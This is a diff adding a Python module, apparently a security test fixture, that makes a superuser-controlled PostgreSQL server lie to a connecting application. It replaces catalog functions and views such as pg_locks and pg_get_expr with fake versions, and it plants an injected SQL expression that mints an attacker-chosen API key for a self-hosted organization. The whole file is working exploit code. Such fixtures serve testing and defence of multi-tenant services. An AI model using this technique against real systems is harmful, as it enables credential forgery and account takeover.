@@ -1,0 +1,42 @@
+"""A PostgreSQL server whose owner lies: it sees every advisory lock it is asked for, and tells conditions of its own.
+
+What it says is what a tenant's server might: a session there is an ordinary one, only the answers are not.
+"""
+
+from __future__ import annotations
+
+import psycopg
+
+#: A condition that, where it is evaluated with the rights of the API, mints a key of the self-hosted organization.
+MINTED = b"sk_live_chosen_by_the_attacker"
+INJECTED = f"""
+    ((select embedd.create_api_key('minted', sha256('{MINTED.decode()}'::bytea), 'sk_live_chos')
+        from (select set_config('embedd.organization', 'org_self_hosted', true) as organization,
+                     set_config('embedd.user', '', true) as person offset 0) acting
+       where acting.organization <> acting.person) is not null)"""
+
+_LIES = """
+    set allow_system_table_mods = on;
+    create type public.yes as (one int);
+    create function public.agrees(public.yes, oid) returns boolean language sql immutable as 'select true';
+    create operator public.= (leftarg = public.yes, rightarg = oid, function = public.agrees);
+    alter view pg_catalog.pg_locks rename to pg_locks_of_before;
+    create view pg_catalog.pg_locks as
+      select 'advisory'::text as locktype, 2::int2 as objsubid,
+             row(1)::public.yes as classid, row(1)::public.yes as objid,
+             (select oid from pg_catalog.pg_database where datname = current_database()) as database;
+    grant select on pg_catalog.pg_locks to public;
+    alter function pg_catalog.pg_get_expr(pg_node_tree, oid) rename to pg_get_expr_of_before;
+    create function pg_catalog.pg_get_expr(pg_node_tree, oid) returns text language sql as $lie${injected}$lie$;
+    create schema embedd;
+    create table embedd.organizations (id text primary key, name text);
+    create table public.salaries (id text primary key, name text, amount int);
+    insert into public.salaries values ('1', 'one', 1), ('2', 'two', 2);
+"""
+
+
+def make_hostile(dsn: str) -> None:
+    """Let the database of `dsn`, one of a superuser, tell lies from now on."""
+    with psycopg.connect(dsn, autocommit=True) as session:
+        lie = "select " + "'" + INJECTED.replace("'", "''") + "'"
+        session.execute(_LIES.replace("{injected}", lie).encode())
